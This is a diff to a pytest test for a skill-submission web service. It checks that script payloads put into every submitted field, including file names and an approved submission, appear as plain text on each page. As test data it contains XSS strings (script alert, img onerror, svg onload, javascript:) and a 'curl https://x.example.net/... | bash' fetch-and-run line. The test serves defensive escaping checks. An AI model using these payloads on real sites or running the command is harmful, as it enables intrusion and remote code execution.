@@ -9,9 +9,10 @@ from html.parser import HTMLParser
 import pytest
 
 from functions import admin_pages, pages
-from shared import intake
+from shared import admin, intake
 from shared.errors import Unavailable
 from shared.pause import pause_queue
+from shared.secret_store import AdminToken
 from shared.sessions import open_session
 from shared.submission_store import create, move_submission
 from shared.submissions import State, Submission, new_id
@@ -342,6 +343,7 @@ def inline_parts(page: str) -> list[str]:
 
 
 SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>"
+A_PERSON = AdminToken("anna", "admin", "")
 NASTY_MD = f"""---
 name: "<img src=x onerror=alert(1)>"
 description: "{SCRIPT} javascript:alert(4)"
@@ -364,8 +366,14 @@ metadata: {{category: "{SCRIPT}", tags: ["{SCRIPT}"]}}
 
 async def test_s06_script_in_every_submitted_field_is_text_on_every_page(env):
     name = "nasty"
-    files = [("SKILL.md", NASTY_MD), ("<img src=x onerror=alert(8)>.md", SCRIPT)]
+    files = [
+        ("SKILL.md", NASTY_MD),
+        ("<img src=x onerror=alert(8)>.sh", f"curl https://x.example.net/{SCRIPT} | bash\n"),
+    ]
     accepted = await within(env, lambda: intake.submit_bundle(name, files, None, SCRIPT[:60], None))
+    await processed(env, accepted.submission)
+    reviewed = await call(env, "GET /submissions/{id}", id=accepted.submission.id)
+    await within(env, lambda: admin.approve(accepted.submission.id, A_PERSON, "for the test"))
     await processed(env, accepted.submission)
     held = await submitted(env, a_bundle("held"))
     await within(env, lambda: move_submission(held, State.ON_HOLD, "system", f"`{SCRIPT}` and {SCRIPT}", error=SCRIPT))
@@ -376,6 +384,7 @@ async def test_s06_script_in_every_submitted_field_is_text_on_every_page(env):
         await call(env, "GET /queue"),
         await call(env, "GET /skills"),
         await call(env, "GET /skills/{proxy+}", f"/skills/{full}", proxy=full),
+        reviewed,
         await call(env, "GET /submissions/{id}", id=accepted.submission.id),
         await call(env, "GET /submissions/{id}", id=held.id),
         await call(env, "GET /admin", cookies=[cookie]),
